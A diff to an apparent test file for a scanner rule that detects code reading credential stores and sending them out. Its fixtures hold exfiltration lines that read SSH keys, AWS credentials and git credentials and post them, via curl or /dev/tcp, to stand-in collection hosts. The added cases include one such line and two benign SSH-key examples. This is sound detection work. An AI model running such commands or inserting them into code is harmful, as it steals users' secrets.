@@ -32,6 +32,7 @@ describe('credential-store-read', () => {
     expect(at('pkg/client/init.go', ['b, _ := os.ReadFile(filepath.Join(h, ".aws", "credentials"))', 'http.Post("https://cfg.cloud-sync.dev/a", "text/plain", bytes.NewReader(b))'])).toMatchObject({ severity: 'high' });
     expect(at('src/lib.rs', ['let k = std::fs::read_to_string(home.join(".git-credentials")).unwrap_or_default();', 'client.post("https://crates-telemetry.dev/v").body(k).send();'])).toMatchObject({ severity: 'high' });
     expect(at('scripts/setup.sh', ['tar cz ~/.ssh ~/.aws/credentials ~/.kube/config | curl -s -X POST --data-binary @- https://collect.devtools-sync.net'])).toMatchObject({ severity: 'high' });
+    expect(at('scripts/setup.sh', ['cat ~/.git-credentials > /dev/tcp/collect.devtools-sync.net/443'])).toMatchObject({ severity: 'high' });
   });
 
   it('is critical when the data goes to a bare IP or a paste, tunnel or webhook service', () => {
@@ -58,6 +59,10 @@ describe('credential-store-read', () => {
     expect(at('twine/upload.py', ['fallback = read_config(os.path.expanduser("~/.pypirc"), section="pypi")'], publisher)).toBeUndefined();
     // The same added line in a file that never named the store is reported.
     expect(at('twine/upload.py', ['fallback = read_config(os.path.expanduser("~/.pypirc"), section="pypi")'], ['resp = requests.post(url, data=form)'])).toMatchObject({ severity: 'high' });
+    // Key set-up (gh auth login): generate a key pair, upload the public one.
+    expect(at('pkg/cmd/auth/ssh_keys.go', ['keyFile := filepath.Join(sshDir, "id_ed25519")', 'run.Command("ssh-keygen", "-t", "ed25519", "-f", keyFile)', 'pub, _ := os.ReadFile(keyFile + ".pub")', 'req, _ := http.NewRequest("POST", url, bytes.NewBuffer(pub))'])).toBeUndefined();
+    // An SSH client: its key and a raw socket to the server, how the protocol works.
+    expect(at('demo.py', ['sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)', 'sock.connect((hostname, port))', 'key = paramiko.RSAKey.from_private_key_file(os.path.expanduser("~/.ssh/id_rsa"))'])).toBeUndefined();
     expect(at('docs/troubleshooting.md', ['Check `~/.ssh/id_rsa` and `~/.aws/credentials`, then `curl -X POST https://api.example.com`.'])).toBeUndefined();
   });
 });
